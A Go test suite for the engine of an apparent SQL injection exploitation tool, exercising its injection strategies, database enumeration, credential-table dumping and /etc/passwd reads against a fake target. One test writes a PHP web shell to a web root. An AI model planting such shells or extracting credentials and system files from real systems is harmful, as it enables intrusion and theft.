package engine_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/0x6d61/sqlsiphon/internal/dialect"
	"github.com/0x6d61/sqlsiphon/internal/engine"
	"github.com/0x6d61/sqlsiphon/internal/extract"
	"github.com/0x6d61/sqlsiphon/internal/payload"
	"github.com/0x6d61/sqlsiphon/internal/session"
	"github.com/0x6d61/sqlsiphon/internal/strategy"
	"github.com/0x6d61/sqlsiphon/internal/testutil"
)

const endpoint = "GET http://shop.test/item.php id"

var schema = []testutil.Database{
	{Name: "information_schema", Tables: []testutil.Table{
		{Name: "TABLES", Columns: []string{"TABLE_NAME"}, Rows: [][]string{{"TABLES"}}},
	}},
	{Name: "shop", Tables: []testutil.Table{
		{Name: "users", Columns: []string{"id", "name", "password"}, Rows: [][]string{
			{"1", "alice", "s3cret"},
			{"2", "bob", "hunter2"},
			{"2", "bob", "hunter2"},
		}},
		{Name: "products", Columns: []string{"id", "title"}, Rows: [][]string{{"1", "Widget"}}},
	}},
}

var (
	users    = engine.Table{Database: "shop", Name: "users", RowCount: 3}
	products = engine.Table{Database: "shop", Name: "products", RowCount: 1}
)

func mysqlBuilder(t *testing.T) *payload.Builder {
	t.Helper()
	reg, err := dialect.Builtin()
	require.NoError(t, err)
	d, err := reg.Lookup("mysql")
	require.NoError(t, err)
	return payload.NewBuilder(d)
}

// shop returns a target holding the shop schema, with every strategy
// disabled.
func shop(t *testing.T) *testutil.FakeTarget {
	t.Helper()
	f := testutil.NewFakeTarget()
	b := mysqlBuilder(t)
	require.NoError(t, f.Seed(b, schema))
	require.NoError(t, f.SeedInfo(b, "8.0.36", "shop", "root@localhost"))
	return f
}

func union(f *testutil.FakeTarget) *testutil.FakeTarget {
	f.Columns = 3
	f.Visible = []int{2, 3}
	return f
}

func newInjector(t *testing.T, f *testutil.FakeTarget, opts ...engine.Option) *engine.Injector {
	t.Helper()
	cfg := engine.DefaultConfig()
	cfg.MaxFields = 5
	cfg.Retries = 2
	in, err := engine.New(f, append([]engine.Option{engine.WithConfig(cfg)}, opts...)...)
	require.NoError(t, err)
	t.Cleanup(func() { in.Close() })
	return in
}

func configure(t *testing.T, in *engine.Injector) *engine.Session {
	t.Helper()
	s, err := in.ConfigureTarget(context.Background(), endpoint, "mysql")
	require.NoError(t, err)
	return s
}

func databases(t *testing.T, in *engine.Injector) []engine.Database {
	t.Helper()
	var out []engine.Database
	for db, err := range in.ListDatabases(context.Background()) {
		require.NoError(t, err)
		out = append(out, db)
	}
	return out
}

type recorder struct {
	engine.NopObserver

	mu         sync.Mutex
	strategies []strategy.Kind
	databases  []string
	tables     []string
	rows       int
	errs       []error
}

func (r *recorder) OnStrategySelected(st strategy.Strategy) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.strategies = append(r.strategies, st.Kind)
}

func (r *recorder) OnDatabaseFound(db engine.Database) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.databases = append(r.databases, db.Name)
}

func (r *recorder) OnTableFound(t engine.Table) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.tables = append(r.tables, t.Name)
}

func (r *recorder) OnRowValue(engine.Row) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.rows++
}

func (r *recorder) OnError(err error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.errs = append(r.errs, err)
}

func TestNormalStrategyListsSchema(t *testing.T) {
	in := newInjector(t, union(shop(t)))
	s := configure(t, in)
	assert.Equal(t, strategy.Normal, s.Strategy.Kind)
	assert.Equal(t, "MySQL", s.Dialect.Name)
	require.NotNil(t, s.Calibration)
	assert.Equal(t, []int{2, 3}, s.Calibration.Visible)
	assert.Equal(t, 2, s.Calibration.Best)
	assert.Equal(t, 65536, s.Strategy.Capacity)

	assert.Equal(t, []engine.Database{
		{Name: "information_schema", TableCount: 1},
		{Name: "shop", TableCount: 2},
	}, databases(t, in))

	var tables []engine.Table
	for tb, err := range in.ListTables(context.Background(), engine.Database{Name: "shop", TableCount: 2}) {
		require.NoError(t, err)
		tables = append(tables, tb)
	}
	assert.Equal(t, []engine.Table{products, users}, tables)

	var columns []engine.Column
	for c, err := range in.ListColumns(context.Background(), users) {
		require.NoError(t, err)
		columns = append(columns, c)
	}
	require.Len(t, columns, 3)
	assert.Equal(t, engine.Column{Database: "shop", Table: "users", Name: "password"}, columns[2])

	var rows []engine.Row
	for r, err := range in.ReadRows(context.Background(), users, columns) {
		require.NoError(t, err)
		rows = append(rows, r)
	}
	require.Len(t, rows, 2)
	assert.Equal(t, []string{"id", "name", "password"}, rows[0].Columns)
	assert.Equal(t, []string{"1", "alice", "s3cret"}, rows[0].Values)
	assert.Equal(t, []string{"2", "bob", "hunter2"}, rows[1].Values)
	assert.Equal(t, 2, rows[1].Count)
}

func TestInfo(t *testing.T) {
	in := newInjector(t, union(shop(t)))
	configure(t, in)

	info, err := in.Info(context.Background())
	require.NoError(t, err)
	assert.Equal(t, &engine.Info{Version: "8.0.36", Database: "shop", User: "root@localhost"}, info)
}

func TestErrorStrategyReadsAcrossWindows(t *testing.T) {
	f := shop(t)
	f.Error = true
	f.Blind = true
	in := newInjector(t, f)
	s := configure(t, in)
	assert.Equal(t, strategy.Error, s.Strategy.Kind)
	require.NotNil(t, s.Strategy.Method)
	assert.Equal(t, "extractvalue", s.Strategy.Method.Name)
	assert.Equal(t, 27, s.Strategy.Capacity)

	// the listing is longer than one error message
	assert.Len(t, databases(t, in), 2)

	info, err := in.Info(context.Background())
	require.NoError(t, err)
	assert.Equal(t, "root@localhost", info.User)
}

func TestStrategyFallsBackToBlind(t *testing.T) {
	f := shop(t)
	f.Blind = true
	in := newInjector(t, f)
	s := configure(t, in)
	assert.Equal(t, strategy.Blind, s.Strategy.Kind)
	assert.Equal(t, dialect.SearchCapacity, s.Strategy.Capacity)

	state, kind := in.Selector().State()
	assert.Equal(t, strategy.Selected, state)
	assert.Equal(t, strategy.Blind, kind)

	info, err := in.Info(context.Background())
	require.NoError(t, err)
	assert.Equal(t, "8.0.36", info.Version)
	assert.Len(t, databases(t, in), 2)
}

func TestTimeStrategy(t *testing.T) {
	f := shop(t)
	f.Time = true
	in := newInjector(t, f)
	s := configure(t, in)
	assert.Equal(t, strategy.Time, s.Strategy.Kind)

	info, err := in.Info(context.Background())
	require.NoError(t, err)
	assert.Equal(t, "shop", info.Database)
}

func TestRestrictedStrategies(t *testing.T) {
	f := union(shop(t))
	f.Blind = true
	cfg := engine.DefaultConfig()
	cfg.Strategies = []strategy.Kind{strategy.Blind}
	in := newInjector(t, f, engine.WithConfig(cfg))

	s := configure(t, in)
	assert.Equal(t, strategy.Blind, s.Strategy.Kind)
	for _, q := range f.Queries() {
		assert.False(t, strings.HasPrefix(q, "union select"), "normal strategy probed: %q", q)
	}
}

func TestNotExploitable(t *testing.T) {
	rec := &recorder{}
	in := newInjector(t, shop(t), engine.WithObserver(rec))

	_, err := in.ConfigureTarget(context.Background(), endpoint, "mysql")
	require.ErrorIs(t, err, engine.ErrNotExploitable)
	assert.Nil(t, in.Session())

	require.NoError(t, in.Close())
	assert.Len(t, rec.errs, 1)
}

func TestNotConfigured(t *testing.T) {
	in := newInjector(t, shop(t))
	for _, err := range in.ListDatabases(context.Background()) {
		assert.ErrorIs(t, err, engine.ErrNotConfigured)
	}
	_, err := in.Info(context.Background())
	assert.ErrorIs(t, err, engine.ErrNotConfigured)
	assert.ErrorIs(t, in.Recalibrate(context.Background(), 3), engine.ErrNotConfigured)
}

func TestUnknownVendorHint(t *testing.T) {
	in := newInjector(t, shop(t))
	_, err := in.ConfigureTarget(context.Background(), endpoint, "db2")
	assert.Error(t, err)
}

func TestFingerprintIdentifiesVendor(t *testing.T) {
	f := union(shop(t))
	f.SyntaxErrors = true
	in := newInjector(t, f)

	s, err := in.ConfigureTarget(context.Background(), endpoint, "")
	require.NoError(t, err)
	assert.Equal(t, "MySQL", s.Dialect.Name)
	assert.Contains(t, f.Queries(), "'")
}

func TestFingerprintFallsBackToDefaultVendor(t *testing.T) {
	in := newInjector(t, union(shop(t)))
	s, err := in.ConfigureTarget(context.Background(), endpoint, "")
	require.NoError(t, err)
	assert.Equal(t, "MySQL", s.Dialect.Name)
}

func TestListingResumesAfterCutRow(t *testing.T) {
	f := union(testutil.NewFakeTarget())
	b := mysqlBuilder(t)
	first, err := b.Databases(0)
	require.NoError(t, err)
	second, err := b.Databases(1)
	require.NoError(t, err)
	f.Set(first, "\x04app\x052\x04\x06\x04mys"+"\x01\x03\x03\x07")
	f.Set(second, "\x04mysql\x0531\x04"+"\x01\x03\x03\x07")

	in := newInjector(t, f)
	configure(t, in)
	assert.Equal(t, []engine.Database{
		{Name: "app", TableCount: 2},
		{Name: "mysql", TableCount: 31},
	}, databases(t, in))
}

func TestListingFollowsExpectedCount(t *testing.T) {
	f := union(testutil.NewFakeTarget())
	b := mysqlBuilder(t)
	first, err := b.Tables("app", 0)
	require.NoError(t, err)
	second, err := b.Tables("app", 2)
	require.NoError(t, err)
	f.Set(first, "\x04a\x050\x04\x06\x04b\x050\x04"+"\x01\x03\x03\x07")
	f.Set(second, "\x04c\x050\x04"+"\x01\x03\x03\x07")
	past, err := b.Tables("app", 3)
	require.NoError(t, err)
	f.Set(past, "\x01\x03\x03\x07")

	in := newInjector(t, f)
	configure(t, in)

	var names []string
	for tb, err := range in.ListTables(context.Background(), engine.Database{Name: "app", TableCount: 3}) {
		require.NoError(t, err)
		names = append(names, tb.Name)
	}
	assert.Equal(t, []string{"a", "b", "c"}, names)

	// an overestimated count stops when no new entry comes back
	names = nil
	for tb, err := range in.ListTables(context.Background(), engine.Database{Name: "app", TableCount: 10}) {
		require.NoError(t, err)
		names = append(names, tb.Name)
	}
	assert.Equal(t, []string{"a", "b", "c"}, names)
}

func TestTruncatedValue(t *testing.T) {
	in := newInjector(t, union(testutil.NewFakeTarget()))
	configure(t, in)

	var got error
	for _, err := range in.ListDatabases(context.Background()) {
		got = err
	}
	var partial *engine.PartialError
	require.ErrorAs(t, got, &partial)
	assert.ErrorIs(t, got, engine.ErrTruncated)
	assert.Equal(t, 0, partial.Emitted)
}

func TestTransportFailureEndsStream(t *testing.T) {
	f := shop(t)
	f.Error = true
	b := mysqlBuilder(t)
	content := "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin\n"
	require.NoError(t, f.SeedFile(b, "/etc/passwd", content, true))

	in := newInjector(t, f)
	configure(t, in)

	boom := errors.New("connection reset by peer")
	reads := 0
	f.OnProbe(func(q string) error {
		if strings.Contains(q, "load_file") {
			reads++
			if reads > 1 {
				return boom
			}
		}
		return nil
	})

	var (
		got     strings.Builder
		lastErr error
	)
	for chunk, err := range in.ReadFile(context.Background(), "/etc/passwd") {
		if err != nil {
			lastErr = err
			break
		}
		got.WriteString(chunk)
	}
	var partial *engine.PartialError
	require.ErrorAs(t, lastErr, &partial)
	assert.ErrorIs(t, lastErr, boom)
	assert.Equal(t, 27, partial.Emitted)
	assert.Equal(t, content[:27], got.String())
}

func TestCancelledContext(t *testing.T) {
	in := newInjector(t, union(shop(t)))
	configure(t, in)

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for _, err := range in.ListDatabases(ctx) {
		assert.ErrorIs(t, err, context.Canceled)
	}
}

func TestReadFile(t *testing.T) {
	f := union(shop(t))
	content := "root:x:0:0:root:/root:/bin/bash\n"
	require.NoError(t, f.SeedFile(mysqlBuilder(t), "/etc/passwd", content, true))
	in := newInjector(t, f)
	configure(t, in)

	var got strings.Builder
	for chunk, err := range in.ReadFile(context.Background(), "/etc/passwd") {
		require.NoError(t, err)
		got.WriteString(chunk)
	}
	assert.Equal(t, content, got.String())
}

func TestReadFileWithoutPrivilege(t *testing.T) {
	f := union(shop(t))
	require.NoError(t, f.SeedFile(mysqlBuilder(t), "/etc/passwd", "secret", false))
	in := newInjector(t, f)
	configure(t, in)

	for chunk, err := range in.ReadFile(context.Background(), "/etc/passwd") {
		assert.Empty(t, chunk)
		assert.ErrorIs(t, err, engine.ErrNoPrivilege)
	}
}

func TestWriteFile(t *testing.T) {
	f := union(shop(t))
	require.NoError(t, f.SeedFile(mysqlBuilder(t), "/etc/hosts", "", true))
	in := newInjector(t, f)
	configure(t, in)

	const shell = "<?php system($_GET['c']); ?>"
	require.NoError(t, in.WriteFile(context.Background(), "/var/www/html/c.php", shell))
	written, ok := f.File("/var/www/html/c.php")
	require.True(t, ok)
	assert.Equal(t, shell, written)
}

func TestWriteFileNeedsNormal(t *testing.T) {
	f := shop(t)
	f.Blind = true
	in := newInjector(t, f)
	configure(t, in)

	err := in.WriteFile(context.Background(), "/tmp/x", "x")
	assert.ErrorIs(t, err, engine.ErrNeedsNormal)
}

func TestDump(t *testing.T) {
	in := newInjector(t, union(shop(t)))
	configure(t, in)

	missing := engine.Table{Database: "shop", Name: "missing"}
	got := make(map[string][]engine.Row)
	var tableErrs []*engine.TableError
	for r, err := range in.Dump(context.Background(), []engine.Table{users, missing, products}) {
		if err != nil {
			var te *engine.TableError
			require.ErrorAs(t, err, &te)
			tableErrs = append(tableErrs, te)
			continue
		}
		got[r.Table] = append(got[r.Table], r)
	}

	require.Len(t, tableErrs, 1)
	assert.Equal(t, "missing", tableErrs[0].Table)
	assert.ErrorIs(t, tableErrs[0], engine.ErrTruncated)
	assert.Len(t, got["users"], 2)
	require.Len(t, got["products"], 1)
	assert.Equal(t, []string{"1", "Widget"}, got["products"][0].Values)
}

func TestDumpSelectedColumns(t *testing.T) {
	f := union(shop(t))
	b := mysqlBuilder(t)
	q, err := b.Rows("shop", "users", []string{"name"}, 0)
	require.NoError(t, err)
	f.Set(q, "\x04alice\x051\x04\x06\x04bob\x052\x04"+"\x01\x03\x03\x07")

	in := newInjector(t, f)
	configure(t, in)

	var names []string
	for r, err := range in.Dump(context.Background(), []engine.Table{users}, "name") {
		require.NoError(t, err)
		names = append(names, r.Values[0])
	}
	assert.Equal(t, []string{"alice", "bob"}, names)
}

func TestDumpTimeStrategyOneTableAtATime(t *testing.T) {
	f := shop(t)
	f.Time = true
	cfg := engine.DefaultConfig()
	cfg.MaxFields = 5
	cfg.Workers = 4
	in, err := engine.New(f, engine.WithConfig(cfg))
	require.NoError(t, err)
	t.Cleanup(func() { in.Close() })
	s := configure(t, in)
	require.Equal(t, strategy.Time, s.Strategy.Kind)

	var inFlight, peak atomic.Int32
	f.OnProbe(func(string) error {
		n := inFlight.Add(1)
		defer inFlight.Add(-1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		time.Sleep(time.Millisecond)
		return nil
	})

	rows := 0
	for _, err := range in.Dump(context.Background(), []engine.Table{users, products}) {
		require.NoError(t, err)
		rows++
	}
	assert.Equal(t, 3, rows)
	assert.Equal(t, int32(1), peak.Load(), "time checks must not overlap")
}

func TestSentinelsAreNotRetried(t *testing.T) {
	for _, want := range []error{engine.ErrNotConfigured, engine.ErrTruncated, engine.ErrNoPrivilege, engine.ErrWriteUnverified, engine.ErrNeedsNormal} {
		n := 0
		_, err := extract.Retry(context.Background(), 3, func() (string, error) {
			n++
			return "", fmt.Errorf("op: %w", want)
		})
		assert.ErrorIs(t, err, want)
		assert.Equal(t, 1, n, "%v retried", want)
	}
	assert.Equal(t, "engine: result truncated", engine.ErrTruncated.Error())
}

func TestDumpStopsEarly(t *testing.T) {
	in := newInjector(t, union(shop(t)))
	configure(t, in)

	n := 0
	for _, err := range in.Dump(context.Background(), []engine.Table{users, products}) {
		require.NoError(t, err)
		n++
		break
	}
	assert.Equal(t, 1, n)
}

func TestObserverEvents(t *testing.T) {
	rec := &recorder{}
	in := newInjector(t, union(shop(t)), engine.WithObserver(rec))
	configure(t, in)
	databases(t, in)
	for _, err := range in.ReadRows(context.Background(), users, []engine.Column{{Name: "id"}, {Name: "name"}, {Name: "password"}}) {
		require.NoError(t, err)
	}
	require.NoError(t, in.Close())

	assert.Equal(t, []strategy.Kind{strategy.Normal}, rec.strategies)
	assert.Equal(t, []string{"information_schema", "shop"}, rec.databases)
	assert.Equal(t, 2, rec.rows)
	assert.Empty(t, rec.errs)
}

type panicker struct{ engine.NopObserver }

func (panicker) OnDatabaseFound(engine.Database) { panic("observer bug") }

func TestObserverPanicDoesNotStopOthers(t *testing.T) {
	rec := &recorder{}
	in := newInjector(t, union(shop(t)), engine.WithObserver(panicker{}, rec))
	configure(t, in)
	databases(t, in)
	require.NoError(t, in.Close())
	assert.Len(t, rec.databases, 2)
}

func TestSessionResume(t *testing.T) {
	store, err := session.NewSQLiteStore(":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { store.Close() })

	f := union(shop(t))
	first := newInjector(t, f, engine.WithStore(store))
	s1 := configure(t, first)
	databases(t, first)
	require.NoError(t, first.Close())

	recs, err := store.Records(context.Background(), s1.ID)
	require.NoError(t, err)
	require.Len(t, recs, 2)
	assert.Equal(t, session.KindDatabase, recs[0].Kind)

	calls := f.Calls()
	second := newInjector(t, f, engine.WithStore(store))
	s2 := configure(t, second)
	assert.Equal(t, calls, f.Calls(), "resumed session must not probe")
	assert.Equal(t, s1.ID, s2.ID)
	assert.Equal(t, strategy.Normal, s2.Strategy.Kind)
	assert.Equal(t, s1.Calibration.Query, s2.Calibration.Query)

	assert.Len(t, databases(t, second), 2)
}

func TestSessionResumeBlindRecalibrates(t *testing.T) {
	store, err := session.NewSQLiteStore(":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { store.Close() })

	f := shop(t)
	f.Blind = true
	s1 := configure(t, newInjector(t, f, engine.WithStore(store)))

	before := f.Calls()
	in := newInjector(t, f, engine.WithStore(store))
	s2 := configure(t, in)
	assert.Equal(t, s1.ID, s2.ID)
	assert.Equal(t, strategy.Blind, s2.Strategy.Kind)
	assert.Greater(t, f.Calls(), before)

	for _, q := range f.Queries()[before:] {
		assert.False(t, strings.HasPrefix(q, "union select"), "selection ran again: %q", q)
	}
}

func TestRecalibrate(t *testing.T) {
	f := union(shop(t))
	in := newInjector(t, f)
	configure(t, in)

	f.Columns = 4
	f.Visible = []int{4}
	require.NoError(t, in.Recalibrate(context.Background(), 4))
	s := in.Session()
	assert.Equal(t, 4, s.Calibration.Fields)
	assert.Equal(t, 4, s.Calibration.Best)

	calls := f.Calls()
	require.NoError(t, in.Recalibrate(context.Background(), 4))
	assert.Equal(t, calls, f.Calls(), "calibrations are memoized")
	assert.Len(t, databases(t, in), 2)
}
